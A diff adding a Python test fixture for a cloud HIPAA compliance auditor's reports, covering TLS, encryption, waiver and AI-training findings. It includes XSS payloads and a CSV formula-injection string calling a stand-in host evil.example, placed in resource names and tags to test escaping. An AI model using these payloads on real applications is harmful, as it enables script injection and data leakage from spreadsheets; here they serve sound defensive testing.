@@ -1,0 +1,469 @@
+"""The fixed RunResult every report test uses: every status, two clouds, an IaC finding, a waiver,
+an expiring waiver, a listing gap, and cloud-supplied strings that try to break out of HTML, XML,
+CSV and JSON."""
+
+from __future__ import annotations
+
+from datetime import UTC, date, datetime
+
+from auditor.model.base import Gap, ListingGap, ResourceRef, SourceLocation
+from auditor.result import (
+    CitationInfo,
+    Finding,
+    PolicyInfo,
+    ProfileInfo,
+    PromiseResult,
+    Remediation,
+    RunResult,
+    SafeguardResult,
+    WaiverRef,
+    summarize,
+)
+from auditor.scope import Scope
+
+XSS_IMG = "<img src=x onerror=alert(1)>"
+XSS_SCRIPT = "</script><script>alert(1)</script>"
+CSV_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+ATTACH = "Attach the signed Google Cloud BAA and the Vertex AI data-governance terms."
+HOSTILE = [XSS_IMG, XSS_SCRIPT, CSV_FORMULA]
+
+UTC = UTC
+
+
+def _ref(
+    provider: str,
+    account: str,
+    region: str | None,
+    type_: str,
+    id_: str,
+    name: str | None = None,
+    location: SourceLocation | None = None,
+) -> ResourceRef:
+    return ResourceRef(
+        provider=provider,
+        account=account,
+        region=region,
+        type=type_,
+        id=id_,
+        name=name,
+        location=location,
+    )
+
+
+def build_result() -> RunResult:
+    waiver = WaiverRef(
+        id="W-7",
+        reason="Legacy listener retired in Q1; traffic already moved",
+        approver="ciso@example.com",
+        expires=date(2026, 12, 1),
+        policy="AWS-ELB-001",
+        resource="arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/legacy/*",
+    )
+    listener_fail = _ref(
+        "aws",
+        "111111111111",
+        "us-east-1",
+        "aws.elbv2.listener",
+        "arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/web/1/2",
+        name=XSS_IMG,
+    )
+    findings = [
+        Finding(
+            policy_id="AWS-ELB-001",
+            status="FAIL",
+            severity="high",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.1"],
+            promises=["encryption-in-transit"],
+            resource=listener_fail,
+            message=f"Listener {XSS_IMG} allows ['TLSv1.2', 'TLSv1.3']; the BAA promises TLS 1.3.",
+            evidence={
+                "tls.protocols": ["TLSv1.2", "TLSv1.3"],
+                "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06",
+                "tags": {"Name": XSS_SCRIPT, "owner": CSV_FORMULA},
+            },
+        ),
+        Finding(
+            policy_id="AWS-ELB-001",
+            status="PASS",
+            severity="high",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.1"],
+            promises=["encryption-in-transit"],
+            resource=_ref(
+                "aws",
+                "222222222222",
+                "eu-west-1",
+                "aws.elbv2.listener",
+                "arn:aws:elasticloadbalancing:eu-west-1:222222222222:listener/app/api/3/4",
+                name="api",
+            ),
+            message="Listener api allows only TLSv1.3.",
+            evidence={"tls.protocols": ["TLSv1.3"]},
+        ),
+        Finding(
+            policy_id="AWS-ELB-001",
+            status="WAIVED",
+            severity="high",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.1"],
+            promises=["encryption-in-transit"],
+            resource=_ref(
+                "aws",
+                "111111111111",
+                "us-east-1",
+                "aws.elbv2.listener",
+                "arn:aws:elasticloadbalancing:us-east-1:111111111111:listener/app/legacy/9/9",
+                name="legacy",
+            ),
+            message="Listener legacy allows ['TLSv1.2']; waived by W-7.",
+            evidence={"tls.protocols": ["TLSv1.2"]},
+            waiver=waiver,
+        ),
+        Finding(
+            policy_id="AWS-S3-002",
+            status="ERROR",
+            severity="critical",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            promises=["encryption-at-rest"],
+            resource=_ref(
+                "aws",
+                "111111111111",
+                "us-east-1",
+                "aws.s3.bucket",
+                "arn:aws:s3:::phi-bucket",
+                "phi-bucket",
+            ),
+            message="Not assessed: encryption could not be read.",
+            evidence={},
+            gap=Gap(
+                operation="s3:GetBucketEncryption",
+                error_code="AccessDenied",
+                message="User is not authorized to perform s3:GetBucketEncryption",
+                fields=("encryption",),
+            ),
+        ),
+        Finding(
+            policy_id="GCP-SQL-001",
+            status="PASS",
+            severity="high",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            promises=["encryption-at-rest"],
+            resource=_ref(
+                "gcp",
+                "phi-prod",
+                "us-central1",
+                "gcp.sql.instance",
+                "projects/phi-prod/instances/db1",
+                "db1",
+            ),
+            message="Cloud SQL instance db1 is encrypted with Google-managed AES-256.",
+            evidence={
+                "disk_encryption_status": "ENCRYPTED",
+                "settings.ip_configuration.ssl_mode": None,
+            },
+        ),
+        Finding(
+            policy_id="GCP-SQL-001",
+            status="FAIL",
+            severity="high",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            promises=["encryption-at-rest"],
+            resource=_ref(
+                "gcp",
+                "phi-prod",
+                "us-central1",
+                "gcp.sql.instance",
+                "google_sql_database_instance.reports",
+                "reports",
+                location=SourceLocation(file="infra/sql.tf", line_start=12, line_end=30),
+            ),
+            message="google_sql_database_instance.reports declares no encryption key.",
+            evidence={"encryption_key_name": None},
+            waiver=WaiverRef(
+                id="W-3",
+                reason="Reports database moves to CMEK in November",
+                approver="dpo@example.com",
+                expires=date(2026, 11, 1),
+                policy="GCP-SQL-001",
+                resource="google_sql_database_instance.reports",
+                expired=True,
+            ),
+        ),
+        Finding(
+            policy_id="AWS-S3-002",
+            status="ERROR",
+            severity="critical",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            promises=["encryption-at-rest"],
+            resource=_ref("aws", "222222222222", "eu-west-1", "aws.s3.bucket", "*"),
+            message="Not assessed: the bucket listing failed in 222222222222/eu-west-1.",
+            gap=ListingGap(
+                provider="aws",
+                account="222222222222",
+                region="eu-west-1",
+                resource_type="aws.s3.bucket",
+                operation="s3:ListBuckets",
+                error_code="AccessDenied",
+            ),
+        ),
+        Finding(
+            policy_id="AWS-ELB-002",
+            status="NOT_APPLICABLE",
+            severity="medium",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.2.ii"],
+            promises=["encryption-in-transit"],
+            resource=_ref("aws", "222222222222", "eu-west-1", "aws.elbv2.listener", "*"),
+            message="0 aws.elbv2.listener in 222222222222/eu-west-1",
+        ),
+        Finding(
+            policy_id="MANUAL-AI-001",
+            status="MANUAL",
+            severity="high",
+            safeguard="ai-no-training",
+            citations=["hipaa.164.502.a"],
+            promises=["ai-processing"],
+            resource=_ref("gcp", "phi-prod", None, "gcp.project", "projects/phi-prod", "phi-prod"),
+            message="No control plane shows whether prompts are used for model training.",
+            manual_evidence=ATTACH,
+        ),
+    ]
+    findings.sort(key=Finding.sort_key)
+    policies = {
+        "AWS-ELB-001": PolicyInfo(
+            id="AWS-ELB-001",
+            title="Load balancer listeners accept only the promised TLS versions",
+            severity="high",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.1"],
+            resource_type="aws.elbv2.listener",
+            remediation=Remediation(
+                summary="Attach a TLS 1.3-only security policy.",
+                cli=(
+                    "aws elbv2 modify-listener --listener-arn ARN"
+                    " --ssl-policy ELBSecurityPolicy-TLS13-1-3-2021-06"
+                ),
+            ),
+            references=[
+                "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/create-https-listener.html"
+            ],
+            source="aws/elbv2/AWS-ELB-001.yaml",
+        ),
+        "AWS-ELB-002": PolicyInfo(
+            id="AWS-ELB-002",
+            title="Network load balancer TLS listeners use the promised TLS versions",
+            severity="medium",
+            safeguard="transmission-security",
+            citations=["hipaa.164.312.e.2.ii"],
+            resource_type="aws.elbv2.listener",
+            remediation=Remediation(summary="Use a TLS 1.3 policy on TLS listeners."),
+            source="aws/elbv2/AWS-ELB-002.yaml",
+        ),
+        "AWS-S3-002": PolicyInfo(
+            id="AWS-S3-002",
+            title="PHI buckets are encrypted at rest with AES-256",
+            severity="critical",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            resource_type="aws.s3.bucket",
+            remediation=Remediation(summary="Enable default encryption (SSE-S3 or SSE-KMS)."),
+            source="aws/s3/AWS-S3-002.yaml",
+        ),
+        "GCP-SQL-001": PolicyInfo(
+            id="GCP-SQL-001",
+            title="Cloud SQL instances are encrypted at rest",
+            severity="high",
+            safeguard="encryption-at-rest",
+            citations=["hipaa.164.312.a.2.iv"],
+            resource_type="gcp.sql.instance",
+            remediation=Remediation(
+                summary="Set a CMEK or rely on Google-managed AES-256.",
+                terraform='encryption_key_name = "projects/p/locations/l/keyRings/r/cryptoKeys/k"',
+            ),
+            source="gcp/sql/GCP-SQL-001.yaml",
+        ),
+        "MANUAL-AI-001": PolicyInfo(
+            id="MANUAL-AI-001",
+            title="No PHI is used for model training",
+            severity="high",
+            safeguard="ai-no-training",
+            citations=["hipaa.164.502.a"],
+            resource_type="gcp.project",
+            remediation=Remediation(
+                summary="Obtain the provider's written no-training commitment."
+            ),
+            manual_evidence=ATTACH,
+            source="manual/MANUAL-AI-001.yaml",
+        ),
+    }
+    citations = {
+        "hipaa.164.312.e.1": CitationInfo(
+            key="hipaa.164.312.e.1",
+            cfr="164.312(e)(1)",
+            title="Transmission security",
+            kind="standard",
+        ),
+        "hipaa.164.312.e.2.ii": CitationInfo(
+            key="hipaa.164.312.e.2.ii",
+            cfr="164.312(e)(2)(ii)",
+            title="Encryption (transmission)",
+            kind="addressable",
+        ),
+        "hipaa.164.312.a.2.iv": CitationInfo(
+            key="hipaa.164.312.a.2.iv",
+            cfr="164.312(a)(2)(iv)",
+            title="Encryption and decryption",
+            kind="addressable",
+        ),
+        "hipaa.164.502.a": CitationInfo(
+            key="hipaa.164.502.a",
+            cfr="164.502(a)",
+            title="Uses and disclosures of PHI - general rules",
+            kind="standard",
+        ),
+    }
+
+    def counts(of: list[Finding]) -> dict[str, int]:
+        return {k: v for k, v in summarize(of).items() if v}
+
+    def by(attr: str, value: str) -> list[Finding]:
+        if attr == "promise":
+            return [f for f in findings if value in f.promises]
+        return [f for f in findings if getattr(f, attr) == value]
+
+    promises = [
+        PromiseResult(
+            id="encryption-at-rest",
+            section="3. Security Measures",
+            clause=(
+                "Encryption at rest: All PHI stored using AES-256 encryption via Google Cloud SQL"
+                " and Cloud Storage"
+            ),
+            safeguards=["encryption-at-rest"],
+            parameters={"encryption_algorithm": "AES-256"},
+            verdict="FAIL",
+            counts=counts(by("promise", "encryption-at-rest")),
+            policies=["AWS-S3-002", "GCP-SQL-001"],
+        ),
+        PromiseResult(
+            id="encryption-in-transit",
+            section="3. Security Measures",
+            clause="Encryption in transit: TLS 1.3 for all data transmission",
+            safeguards=["transmission-security"],
+            parameters={"min_tls_version": "1.3"},
+            verdict="FAIL",
+            counts=counts(by("promise", "encryption-in-transit")),
+            policies=["AWS-ELB-001", "AWS-ELB-002"],
+        ),
+        PromiseResult(
+            id="ai-processing",
+            section="3. Security Measures",
+            clause=(
+                "AI processing: PHI processed via Google Vertex AI under Google Cloud BAA;"
+                " no PHI is used for model training"
+            ),
+            safeguards=["ai-no-training"],
+            parameters={"ai_training_opt_out": True},
+            verdict="MANUAL",
+            counts=counts(by("promise", "ai-processing")),
+            policies=["MANUAL-AI-001"],
+            note="Contractual terms cannot be read from a control plane.",
+        ),
+    ]
+    safeguards = [
+        SafeguardResult(
+            key="encryption-at-rest",
+            title="Encryption at rest",
+            group="technical",
+            description="PHI stores are encrypted with AES-256.",
+            citations=["hipaa.164.312.a.2.iv"],
+            promised=True,
+            verdict="FAIL",
+            counts=counts(by("safeguard", "encryption-at-rest")),
+            policies=["AWS-S3-002", "GCP-SQL-001"],
+        ),
+        SafeguardResult(
+            key="transmission-security",
+            title="Encryption in transit",
+            group="technical",
+            description="Every PHI connection uses the promised TLS versions.",
+            citations=["hipaa.164.312.e.1", "hipaa.164.312.e.2.ii"],
+            promised=True,
+            verdict="FAIL",
+            counts=counts(by("safeguard", "transmission-security")),
+            policies=["AWS-ELB-001", "AWS-ELB-002"],
+        ),
+        SafeguardResult(
+            key="ai-no-training",
+            title="No model training on PHI",
+            group="contractual",
+            description="No PHI is used to train models.",
+            citations=["hipaa.164.502.a"],
+            promised=True,
+            verdict="MANUAL",
+            counts=counts(by("safeguard", "ai-no-training")),
+            policies=["MANUAL-AI-001"],
+        ),
+        SafeguardResult(
+            key="session-management",
+            title="Session limits",
+            group="technical",
+            description="Sessions end after the promised limits.",
+            citations=[],
+            promised=False,
+            verdict=None,
+            counts={},
+            policies=[],
+        ),
+    ]
+    return RunResult(
+        tool_version="0.1.0",
+        profile=ProfileInfo(
+            id="strict",
+            title="Strict (IMEPro-style BAA promises)",
+            baa_name="IMEPro, Inc. Business Associate Agreement",
+            baa_source="imepro-baa.txt",
+            baa_dated="2026-04-08",
+        ),
+        started_at=datetime(2026, 11, 23, 9, 0, 0, tzinfo=UTC),
+        finished_at=datetime(2026, 11, 23, 9, 2, 30, tzinfo=UTC),
+        collected_at=datetime(2026, 11, 23, 8, 55, 0, tzinfo=UTC),
+        scope=Scope(
+            providers=["aws", "gcp"],
+            aws_accounts=["111111111111", "222222222222"],
+            aws_regions=["eu-west-1", "us-east-1"],
+            aws_organization="o-example",
+            gcp_parent="organizations/123456789",
+            gcp_projects=["phi-prod"],
+        ),
+        inputs={
+            "snapshot": "a" * 64,
+            "policies": "b" * 64,
+            "profile": "c" * 64,
+            "waivers": "d" * 64,
+        },
+        summary=summarize(findings),
+        findings=findings,
+        promises=promises,
+        safeguards=safeguards,
+        policies=policies,
+        citations=citations,
+        listing_gaps=[
+            ListingGap(
+                provider="aws",
+                account="222222222222",
+                region="eu-west-1",
+                resource_type="aws.s3.bucket",
+                operation="s3:ListBuckets",
+                error_code="AccessDenied",
+                message=f"denied for {XSS_SCRIPT}",
+            )
+        ],
+        warnings=["Waiver W-3 expired on 2026-11-01; its findings count as FAIL again."],
+        waivers_expiring=[waiver],
+    )
